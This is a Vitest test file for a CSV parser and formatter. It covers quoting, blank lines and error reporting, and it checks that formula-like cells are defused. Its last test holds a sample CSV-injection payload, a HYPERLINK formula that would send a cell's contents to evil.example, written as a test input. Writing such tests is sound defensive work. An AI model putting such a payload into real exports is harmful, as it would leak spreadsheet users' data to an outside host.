import { describe, expect, it } from 'vitest';
import { formatCsv, parseCsv } from './csv.js';

const fields = (text: string) => parseCsv(text).records.map((r) => r.fields);

describe('parseCsv', () => {
  it('splits plain records on commas and line ends (LF and CRLF)', () => {
    expect(fields('a,b\n1,2\r\n3,4')).toEqual([
      ['a', 'b'],
      ['1', '2'],
      ['3', '4'],
    ]);
  });

  it('keeps commas, doubled quotes and line breaks inside quoted fields', () => {
    const result = parseCsv('name,note\n"Lee, Ann","said ""hi""\nthen left"\nBo,x');
    expect(result.error).toBeNull();
    expect(result.records.map((r) => r.fields)).toEqual([
      ['name', 'note'],
      ['Lee, Ann', 'said "hi"\nthen left'],
      ['Bo', 'x'],
    ]);
    // The record after a multi-line field starts on the right line.
    expect(result.records.map((r) => r.line)).toEqual([1, 2, 4]);
  });

  it('skips blank lines but keeps their line numbers counted', () => {
    const result = parseCsv('a\n\n\nb\n');
    expect(result.records).toEqual([
      { line: 1, fields: ['a'] },
      { line: 4, fields: ['b'] },
    ]);
  });

  it('drops a UTF-8 byte-order mark', () => {
    expect(fields('\uFEFFname,email')).toEqual([['name', 'email']]);
  });

  it('keeps empty fields, including a trailing one', () => {
    expect(fields('a,,c,\n')).toEqual([['a', '', 'c', '']]);
    expect(fields('""')).toEqual([['']]);
  });

  it('reports an unclosed quote with the line it started on', () => {
    const result = parseCsv('a,b\n1,"open\n2,3');
    expect(result.error?.line).toBe(2);
    expect(result.error?.message).toMatch(/never closed/);
  });

  it('reports a quote in the middle of a field and text after a closing quote', () => {
    expect(parseCsv('a,b"c').error?.message).toMatch(/middle of a field/);
    expect(parseCsv('"a"b,c').error?.message).toMatch(/follows a closing quote/);
  });

  it('returns nothing for empty input', () => {
    expect(parseCsv('')).toEqual({ records: [], error: null });
  });
});

describe('formatCsv', () => {
  it('quotes what needs quoting and reads back as written', () => {
    const records = [
      ['plain', 'with, comma', 'with "quotes"', 'two\nlines'],
      ['', 'ünïcödé', '42', '-3.5'],
    ];
    const text = formatCsv(records);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(fields(text)).toEqual(records);
  });

  it('defuses cells a spreadsheet would run as formulas, but leaves negative numbers alone', () => {
    const text = formatCsv([['=HYPERLINK("x")', '+1+1', '@SUM(A1)', '-2', '-x']]);
    expect(fields(text)[0]).toEqual(['\'=HYPERLINK("x")', "'+1+1", "'@SUM(A1)", '-2', "'-x"]);
  });

  it('defuses a formula that starts like a negative number; only whole numbers and plain decimals pass', () => {
    const hostile = [
      '-1+HYPERLINK("https://evil.example/?"&A1,"Click")',
      '-1+1',
      '-2*3',
      '-1-1',
      '-1,5',
      '-1e3',
      '-0x1',
    ];
    const plain = ['-1', '-42', '-3.5', '-0.25', '7', '12.50', '0'];
    const read = fields(formatCsv([[...hostile, ...plain]]))[0];
    expect(read).toEqual([...hostile.map((h) => `'${h}`), ...plain]);
  });
});
